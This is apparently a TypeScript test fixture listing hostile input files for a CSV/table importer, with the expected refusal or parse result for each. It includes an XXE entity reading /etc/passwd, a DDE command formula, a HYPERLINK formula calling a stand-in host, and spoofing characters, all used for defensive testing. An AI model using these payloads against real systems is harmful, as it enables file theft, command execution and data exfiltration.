import { gzipSync } from 'node:zlib'
import { counted, read, refused, type HostileFile } from './case.ts'

const bytes = (...values: number[]) => Buffer.from(values)
const utf16 = (text: string) => Buffer.from(text, 'utf16le')
const megabyte = 1024 * 1024
/** The same bytes at every run. */
const noise = (length: number) => Buffer.from(Uint8Array.from({ length }, (_, at) => (at * 2_654_435_761) >>> 24))

const encodings: HostileFile[] = [
  refused('nothing', 'bulk.read.empty', () => ''),
  refused('a byte order mark and no more', 'bulk.read.empty', () => '\ufeff'),
  refused('a UTF-16 mark and no more', 'bulk.read.empty', () => bytes(0xff, 0xfe)),
  refused('blank lines', 'bulk.read.empty', () => '\r\n\r\n \r\n'.replace(' ', '')),
  refused('blanks', 'bulk.read.empty', () => '   \n  '),
  read('UTF-16 that ends in half a letter', [['a', 'b'], ['1', '2'], ['\ufffd']], () =>
    Buffer.concat([utf16('\ufeffa;b\n1;2\n'), bytes(0x41)]),
  ),
  refused('UTF-16 with half a character', 'bulk.read.encoding', () =>
    Buffer.concat([utf16('\ufeffa;b\n'), bytes(0x00, 0xd8), utf16(';2\n')]),
  ),
  refused('UTF-32', 'bulk.read.notText', () =>
    Buffer.from('\ufeffa;b\n1;2\n', 'utf16le').reduce<Buffer>(
      (all, byte, at) => Buffer.concat([all, bytes(byte), ...(at % 2 ? [bytes(0, 0)] : [])]),
      Buffer.alloc(0),
    ),
  ),
  refused('a NUL in a cell', 'bulk.read.notText', () => 'a;b\n1;\0\n'),
  refused('a NUL far down', 'bulk.read.notText', () => `a;b\n${'1;2\n'.repeat(100_000)}3;\0\n`),
  refused('NULs and nothing else', 'bulk.read.notText', () => Buffer.alloc(1000)),
  refused('noise', 'bulk.read.notText', () => noise(100_000)),
  read(
    'overlong UTF-8 is Windows-1252, not a slash',
    [
      ['a', 'À¯'],
      ['1', '2'],
    ],
    () => Buffer.concat([Buffer.from('a;'), bytes(0xc0, 0xaf), Buffer.from('\n1;2\n')]),
  ),
  read(
    'surrogates in UTF-8 are Windows-1252',
    [
      ['a', 'í\u00a0½'],
      ['1', '2'],
    ],
    () => Buffer.concat([Buffer.from('a;'), bytes(0xed, 0xa0, 0xbd), Buffer.from('\n1;2\n')]),
  ),
  read(
    'two marks keep one',
    [
      ['\ufeffa', 'b'],
      ['1', '2'],
    ],
    () => '\ufeff\ufeffa;b\n1;2\n',
  ),
]

const otherFiles: HostileFile[] = [
  refused('a picture', 'bulk.read.notTable', () =>
    Buffer.concat([bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), noise(500)]),
  ),
  refused('a PDF', 'bulk.read.notTable', () => '%PDF-1.7\n1 0 obj\n'),
  refused('a letter in RTF', 'bulk.read.notTable', () => '{\\rtf1\\ansi hallo}'),
  refused('a program', 'bulk.read.notText', () => Buffer.concat([Buffer.from('MZ'), bytes(0x90, 0, 3, 0, 0, 0, 4), noise(3000)])),
  refused('a compressed file', 'bulk.read.compressed', () => gzipSync(noise(5000))),
  refused(
    'a web page named .xls',
    'bulk.read.html',
    () => '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr><td>1</td></tr></table></html>',
  ),
  refused('a web page with a mark and blanks before it', 'bulk.read.html', () => '\ufeff \r\n<!DOCTYPE html><table></table>'),
  refused('a web archive named .xls', 'bulk.read.html', () => 'MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n'),
  refused(
    'a table of Excel 2003 in XML',
    'bulk.read.xml',
    () => '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
  ),
  refused('JSON, a record a line', 'bulk.read.json', () => '{"a":1,"b":2}\n{"a":3,"b":4}\n'),
  refused('JSON in a list', 'bulk.read.json', () => '[\n  {"a": 1}\n]\n'),
  refused(
    'SYLK',
    'bulk.read.sylk',
    () => 'ID;PWXL;N;E\r\nP;PGeneral\r\nF;P0;DG0G8;M255\r\nB;Y3;X5;D0 0 4 2\r\nC;Y1;X1;K"outlet"\r\nE\r\n',
  ),
  read(
    'a table whose first column is called ID is no SYLK',
    [
      ['ID', 'Product'],
      ['C', 'B'],
    ],
    () => 'ID;Product\nC;B\n',
  ),
  refused('DIF', 'bulk.read.dif', () => 'TABLE\r\n0,1\r\n"EXCEL"\r\nVECTORS\r\n0,2\r\n""\r\n'),
  refused('a database of SQLite', 'bulk.read.database', () => Buffer.concat([Buffer.from('SQLite format 3\0'), noise(500)])),
  refused('a database of Access', 'bulk.read.database', () =>
    Buffer.concat([bytes(0, 1, 0, 0), Buffer.from('Standard ACE DB\0'), noise(500)]),
  ),
  refused('a sheet of Excel 4', 'bulk.read.xls', () => Buffer.concat([bytes(9, 4, 6, 0, 0, 0, 16, 0), noise(500)])),
  refused(
    'XML that asks for a file of the computer',
    'bulk.read.xml',
    () => '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  ),
]

const quotes: HostileFile[] = [
  read(
    'a quote that is never closed takes no row with it',
    [
      ['a', 'b'],
      ['"1', '2'],
      ['3', '4'],
    ],
    () => 'a;b\n"1;2\n3;4\n',
  ),
  read(
    'a quote in the last cell that is never closed',
    [
      ['a', 'b'],
      ['1', '2'],
      ['3', '"4'],
    ],
    () => 'a;b\n1;2\n3;"4',
  ),
  counted('a quote that would take two megabytes with it', 50_002, () => `a;b\n"${`1;${'x'.repeat(40)}\n`.repeat(50_000)}9;9`),
  refused('a quote before a megabyte in one line', 'bulk.read.cellTooLarge', () => `a;b\n"${'x'.repeat(1_250_000)}\n1;2\n`),
  counted('thirty thousand quotes that are never closed', 30_001, () => `a;b\n${'1;"2\n'.repeat(30_000)}`),
  read('one quote', [['"']], () => '"'),
  read(
    'quotes about nothing',
    [
      ['', ''],
      ['1', '2'],
    ].slice(1),
    () => '"";""\n1;2\n',
  ),
  read(
    'a storm of quotes',
    [
      ['a', 'b'],
      ['"""', '""""'],
    ],
    () => 'a;b\n"""""""";""""""""""\n',
  ),
  read(
    'text after a closing quote stays',
    [
      ['a', 'b'],
      ['"1"x', '2'],
    ],
    () => 'a;b\n"1"x;2\n',
  ),
  read(
    'a quote in the middle stays',
    [
      ['a', 'b'],
      ['5" buis', 'x"'],
    ],
    () => 'a;b\n5" buis;x"\n',
  ),
  read(
    'backslashes escape nothing',
    [
      ['a', 'b'],
      ['\\', '2'],
    ],
    () => 'a;b\n"\\";2\n',
  ),
  read(
    'a line break in the header',
    [
      ['a\nb', 'c'],
      ['1', '2'],
    ],
    () => '"a\nb";c\n1;2\n',
  ),
  read(
    'quotes of typographers are letters',
    [
      ['a', 'b'],
      ['“1”', '‘2’'],
    ],
    () => 'a;b\n“1”;‘2’\n',
  ),
]

const sizes: HostileFile[] = [
  counted('a cell of almost a megabyte', 2, () => `a;b\n"${'x'.repeat(megabyte - 10)}";2\n`),
  refused('a cell of more than a megabyte', 'bulk.read.cellTooLarge', () => `a;b\n"${'x'.repeat(megabyte + 10)}";2\n`),
  refused(
    'a row of many cells that is more than a megabyte',
    'bulk.read.cellTooLarge',
    () => `a;b\n${Array.from({ length: 400 }, () => 'y'.repeat(3000)).join(';')}\n`,
  ),
  refused('thirty megabytes without a line end', 'bulk.read.cellTooLarge', () => 'z'.repeat(30 * megabyte)),
  counted('500 columns', 2, () => `${Array.from({ length: 500 }, (_, at) => `k${at}`).join(';')}\n${';'.repeat(499)}1\n`),
  refused('501 columns', 'bulk.read.tooManyColumns', () => `${Array.from({ length: 501 }, (_, at) => `k${at}`).join(';')}\n`),
  refused('10,000 columns', 'bulk.read.tooManyColumns', () => `a;b\n1;2\n${'x;'.repeat(10_000)}\n`),
  refused('a million columns', 'bulk.read.tooManyColumns', () => ';'.repeat(1_000_000)),
  refused('100,002 rows', 'bulk.read.csvTooManyRows', () => '1;2\n'.repeat(100_002)),
  counted('forty million blank lines', 2, () =>
    Buffer.concat([Buffer.from('a;b\n'), Buffer.alloc(40_000_000, '\n'), Buffer.from('1;2\n')]),
  ),
  refused('more than 50 MB', 'bulk.read.csvTooLarge', () => Buffer.alloc(50 * megabyte + 1, 'a;b;c;d;e;f\n')),
  counted('20,000 rows of every length', 20_000, () =>
    Array.from({ length: 20_000 }, (_, at) => `x${';y'.repeat(at % 40)}`).join('\n'),
  ),
]

const contents: HostileFile[] = [
  read(
    'formulas are texts',
    [
      ['a', 'b'],
      ['=1+1', '+2'],
      ['-3', '@SUM(A1:A9)'],
    ],
    () => 'a;b\n=1+1;+2\n-3;@SUM(A1:A9)\n',
  ),
  read(
    'a command for the computer is a text',
    [
      ['a', 'b'],
      ["=cmd|'/C calc'!A0", '1'],
    ],
    () => "a;b\n=cmd|'/C calc'!A0;1\n",
  ),
  read(
    'a link that calls home is a text',
    [
      ['a', 'b'],
      ['=HYPERLINK("http://x/?"&A1)', '1'],
    ],
    () => 'a;b\n"=HYPERLINK(""http://x/?""&A1)";1\n',
  ),
  read(
    'names that mean something to JavaScript',
    [
      ['__proto__', 'constructor'],
      ['toString', 'hasOwnProperty'],
    ],
    () => '__proto__;constructor\ntoString;hasOwnProperty\n',
  ),
  read(
    'commands for a terminal',
    [
      ['a', 'b'],
      ['\u001b[2J', '\u0007'],
    ],
    () => 'a;b\n\u001b[2J;\u0007\n',
  ),
  read(
    'letters that turn the writing around',
    [
      ['a', 'b'],
      ['\u202egpj.exe', '\u200b'],
    ],
    () => 'a;b\n\u202egpj.exe;\u200b\n',
  ),
  read('a line that names its delimiter, twice', [['sep=,'], ['a;b']], () => 'sep=,\nsep=,\na;b\n'.replace('sep=,\n', 'sep=|\n')),
  refused('a line that names its delimiter, and nothing else', 'bulk.read.empty', () => 'sep=;'),
  read(
    'old Macs',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
    () => 'a;b\r1;2\r',
  ),
  read(
    'a page break and a vertical tab',
    [
      ['a', 'b'],
      ['1\f', '\v2'],
    ],
    () => 'a;b\n1\f;\v2\n',
  ),
  read(
    'line ends of Unicode are letters',
    [
      ['a', 'b'],
      ['1\u2028', '\u00852'],
    ],
    () => 'a;b\n1\u2028;\u00852\n',
  ),
  counted('the same name over 500 columns', 2, () => `${'naam;'.repeat(499)}naam\n${'1;'.repeat(499)}1\n`),
  counted('a name of half a megabyte', 2, () => `${'n'.repeat(500_000)};b\n1;2\n`),
]

/** Texts that call themselves tables. */
export const hostileTexts: HostileFile[] = [...encodings, ...otherFiles, ...quotes, ...sizes, ...contents]
